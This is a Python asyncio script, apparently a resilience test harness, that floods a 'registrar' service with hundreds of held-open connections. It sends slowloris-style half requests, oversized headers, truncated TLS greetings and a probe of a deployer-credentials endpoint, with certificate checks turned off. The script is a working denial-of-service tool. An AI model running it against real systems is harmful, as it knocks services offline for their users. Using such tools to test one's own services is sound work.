"""Floods a registrar with connections that mean nothing. Runs in a pod, with the standard library only.

Arguments: most seconds, port, addresses. Prints `begun` once it is at full force, goes on until its standard input
ends and there were enough of them, and prints then what became of it, as JSON:
{"connections": made, "unreachable": not made, "answers": {status: count}}.
"""

import asyncio
import contextlib
import itertools
import json
import ssl
import sys
from collections import Counter

SECONDS, PORT, ADDRESSES = float(sys.argv[1]), int(sys.argv[2]), sys.argv[3:]
AT_ONCE = 300
LEAST = 2000  # connections, where any is made
CONNECT_SECONDS = 2.0
FULL_FORCE_SECONDS = 3.0  # longer than a connection takes that is not made
PATIENCE_SECONDS = 10.0
POST = b"POST /registrations HTTP/1.1\r\nHost: registrar\r\n"
# What is sent, and whether TLS is spoken before; each connection is kept until the other side ends it.
KINDS = (
    (False, b""),  # a connection and no word
    (True, b""),  # the same, once TLS is agreed upon
    (True, POST),  # half a request
    (True, POST + b"Authorization: Bearer aaaa.bbbb.cccc\r\n\r\n"),
    (True, POST + b"Content-Length: 4000\r\n\r\n{"),
    (True, POST + b"X-Padding: " + b"a" * 30_000),
    (False, b"GET /registrations HTTP/1.1\r\n\r\n"),
    (False, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 200),  # half a greeting of TLS
    (True, b"GET /queue HTTP/1.1\r\nHost: registrar\r\n\r\n"),
    (True, b"POST /credentials/deployer HTTP/1.1\r\nHost: registrar\r\n\r\n"),
)

counts: Counter[str] = Counter()
answers: Counter[str] = Counter()
TRUST = ssl.create_default_context()
TRUST.check_hostname, TRUST.verify_mode = False, ssl.CERT_NONE


async def attack(number: int) -> None:
    """One connection from its beginning to its end."""
    speaks_tls, sent = KINDS[number % len(KINDS)]
    address = ADDRESSES[number // len(KINDS) % len(ADDRESSES)]
    try:
        async with asyncio.timeout(CONNECT_SECONDS):
            reader, writer = await asyncio.open_connection(address, PORT)
    except (OSError, TimeoutError):
        counts["unreachable"] += 1
        return
    counts["connections"] += 1
    try:
        with contextlib.suppress(OSError, TimeoutError):
            async with asyncio.timeout(PATIENCE_SECONDS):
                if speaks_tls:
                    await writer.start_tls(TRUST)
                writer.write(sent)
                await writer.drain()
                answer = await reader.read(4096)
                answers[answer[9:12].decode("ascii", "replace") if answer.startswith(b"HTTP/") else "none"] += 1
                while await reader.read(4096):
                    pass
    finally:
        writer.transport.abort()


async def main() -> None:
    """As many connections at once as this process keeps, until it is told to end."""
    numbers = itertools.count()

    async def again_and_again() -> None:
        while True:
            await attack(next(numbers))

    attacking = [asyncio.create_task(again_and_again()) for _ in range(AT_ONCE)]
    await asyncio.sleep(FULL_FORCE_SECONDS)
    print("begun", flush=True)
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(SECONDS):
            await asyncio.to_thread(sys.stdin.read)
            while 0 < counts["connections"] < LEAST:
                await asyncio.sleep(0.2)
    for task in attacking:
        task.cancel()
    await asyncio.gather(*attacking, return_exceptions=True)
    print(json.dumps({"connections": 0, "unreachable": 0, **counts, "answers": answers}), flush=True)


if __name__ == "__main__":
    asyncio.run(main())
